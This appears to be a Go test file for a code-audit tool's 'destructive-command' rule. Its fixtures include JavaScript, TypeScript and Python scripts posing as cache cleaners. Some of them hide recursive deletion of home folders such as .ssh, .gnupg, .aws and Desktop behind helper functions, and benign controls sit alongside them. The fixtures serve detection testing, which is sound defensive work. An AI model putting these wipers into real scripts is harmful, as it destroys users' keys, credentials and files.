package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestHelperListedWipe: a cleaner whose recursive removal sits in a
// helper function, called with the home folder joined to each target
// (through a loop, a function that returns the joined paths, or a
// generator), removes what its data file or in-code list names under
// home: JavaScript, TypeScript and Python alike. A helper fed only
// cache folders, a helper that removes a temporary folder while the
// code joins home to a list of things it only reads, and a helper fed
// paths under the project are not findings.
func TestHelperListedWipe(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	mjs := "import { existsSync, readFileSync, rmSync } from \"node:fs\";\nimport { homedir } from \"node:os\";\nimport { join } from \"node:path\";\nconst cfg = JSON.parse(readFileSync(new URL(\"./dirs.json\", import.meta.url), \"utf8\"));\nfunction drop(target) {\n  if (!existsSync(target)) return;\n  rmSync(target, { recursive: true, force: true });\n}\nfunction userDirs() {\n  return cfg.caches.map((rel) => join(homedir(), rel));\n}\nfor (const d of userDirs()) drop(d);\n"
	ts := func(list string) string {
		return "import { rmSync } from \"node:fs\";\nimport { homedir } from \"node:os\";\nimport { join } from \"node:path\";\nconst CACHES: string[] = [" + list + "];\nfunction wipe(p: string): void {\n  rmSync(p, { recursive: true, force: true });\n}\nfor (const rel of CACHES) {\n  wipe(join(homedir(), rel));\n}\n"
	}
	py := "import json, os, shutil\nfrom pathlib import Path\nHERE = Path(__file__).parent\n\ndef targets():\n    cfg = json.loads((HERE / 'prune.json').read_text())\n    for t in cfg['remove']:\n        yield os.path.join(os.path.expanduser('~'), t)\n\ndef nuke(path: str) -> None:\n    shutil.rmtree(path, ignore_errors=True)\n\nfor p in targets():\n    nuke(p)\n"
	backup := "import { mkdtempSync, readFileSync, rmSync, cpSync } from \"node:fs\";\nimport { homedir, tmpdir } from \"node:os\";\nimport { join } from \"node:path\";\nconst cfg = JSON.parse(readFileSync(\"sources.json\", \"utf8\"));\nfunction cleanup(dir) {\n  rmSync(dir, { recursive: true, force: true });\n}\nconst stage = mkdtempSync(join(tmpdir(), \"bk-\"));\nfor (const s of cfg.sources) cpSync(join(homedir(), s), join(stage, s), { recursive: true });\ncleanup(stage);\n"
	project := "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst t = require('./dirs.json');\nfunction drop(p) { fs.rmSync(p, { recursive: true, force: true }); }\nconsole.log('home is', path.join(os.homedir(), t.note));\nfor (const d of t.dirs) drop(path.join(process.cwd(), d));\n"
	checkRule(t, "destructive-command", map[string]systemCase{
		"hostile/mjs-helper-json":       {map[string]string{"scripts/clean.mjs": mjs, "scripts/dirs.json": "{\"caches\": [\".npm/_cacache\", \".gnupg\"]}\n"}, crit},
		"hostile/mjs-helper-documents":  {map[string]string{"scripts/clean.mjs": mjs, "scripts/dirs.json": "{\"caches\": [\".cache/yarn\", \"Desktop\"]}\n"}, crit},
		"hostile/ts-helper-inline-list": {map[string]string{"src/clean.ts": ts(`".npm/_cacache", ".ssh"`)}, crit},
		"hostile/py-helper-generator":   {map[string]string{"scripts/prune.py": py, "scripts/prune.json": "{\"remove\": [\".cache/pip\", \".aws\"]}\n"}, crit},
		"benign/mjs-helper-caches":      {map[string]string{"scripts/clean.mjs": mjs, "scripts/dirs.json": "{\"caches\": [\".npm/_cacache\", \".cache/yarn\", \"Library/Caches/Yarn\"]}\n"}, none},
		"benign/ts-helper-caches":       {map[string]string{"src/clean.ts": ts(`".npm/_cacache", ".cache/yarn"`)}, none},
		"benign/py-helper-kept":         {map[string]string{"scripts/prune.py": py, "scripts/prune.json": "{\"remove\": [\".cache/pip\"], \"keep\": [\".ssh\", \"Documents\"]}\n"}, none},
		"benign/js-tmp-cleanup":         {map[string]string{"scripts/backup.mjs": backup, "scripts/sources.json": "{\"sources\": [\"Documents\", \".ssh\"]}\n"}, none},
		"benign/js-project-dirs":        {map[string]string{"scripts/clean.js": project, "scripts/dirs.json": "{\"note\": \".ssh\", \"dirs\": [\"dist\", \"Documents\"]}\n"}, none},
	})
}
